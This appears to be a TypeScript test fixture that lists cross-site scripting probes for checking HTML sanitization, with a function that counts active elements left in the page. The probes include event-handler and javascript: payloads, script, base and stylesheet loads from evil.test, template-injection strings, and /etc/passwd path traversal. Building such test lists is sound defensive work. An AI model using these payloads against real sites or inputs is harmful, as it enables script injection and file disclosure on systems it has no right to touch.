/** Texts that other programs have taken for something else. */
export function hostile(): string[] {
  const handlers = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onpointerenter']
  const elements = ['img src=x', 'svg', 'body', 'video src=x', 'details open', 'input autofocus', 'iframe', 'a href=#']
  const byHandler = handlers.flatMap((handler, index) => [
    `<${elements[index]} ${handler}=alert(1)>`,
    `"><${elements[index]} ${handler}="alert(1)">`,
  ])
  const schemes = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'blob:null/1', 'file:///etc/passwd', 'about:blank']
  const byScheme = schemes.flatMap((scheme) => [scheme, `<a href="${scheme}">go</a>`])
  const others = [
    '<script>alert(1)</script>',
    '<script src=//evil.test/x.js></script>',
    '</textarea><script>alert(1)</script>',
    '</title><script>alert(1)</script>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="//evil.test/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href=//evil.test/x.css>',
    '<style>@import "//evil.test/x.css";</style>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '{{constructor.constructor("alert(1)")()}}',
    '${alert(1)}',
    '#{alert(1)}',
    '<%= alert(1) %>',
    "';alert(1)//",
    '"-alert(1)-"',
    '`${alert(1)}`',
    '\u202Egnp.exe',
    'http://evil.test/"onmouseover="alert(1)',
    "http://evil.test/'><script>alert(1)</script>",
    'https://user:secret@evil.test/',
    'http://[::1]:1/<img src=x onerror=alert(1)>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<![CDATA[<script>alert(1)</script>]]>',
    '__proto__',
    'constructor',
    '../../../../etc/passwd',
  ]
  return [...byHandler, ...byScheme, ...others]
}

export interface Census {
  scripts: number
  frames: number
  handlers: number
  embeds: number
}

/** In the page: what stands in it that could act. */
export function census(): Census {
  const all = [...document.querySelectorAll('*')]
  const isActive = (name: string, value: string) => name.startsWith('on') || /^\s*(?:javascript|data|vbscript):/i.test(value)
  return {
    scripts: document.scripts.length,
    frames: document.querySelectorAll('iframe, frame').length,
    handlers: all.filter((element) => [...element.attributes].some((one) => isActive(one.name, one.value))).length,
    embeds: document.querySelectorAll('object, embed, base, meta[http-equiv], form[action], svg script, math').length,
  }
}
